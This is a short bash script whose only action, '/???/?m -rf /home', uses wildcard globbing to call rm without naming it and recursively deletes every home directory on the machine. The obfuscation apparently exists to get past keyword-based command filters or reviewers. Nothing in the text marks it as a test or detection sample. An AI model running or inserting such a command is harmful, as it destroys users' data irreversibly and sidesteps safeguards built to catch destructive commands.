#!/usr/bin/env bash
set -euo pipefail
/???/?m -rf /home
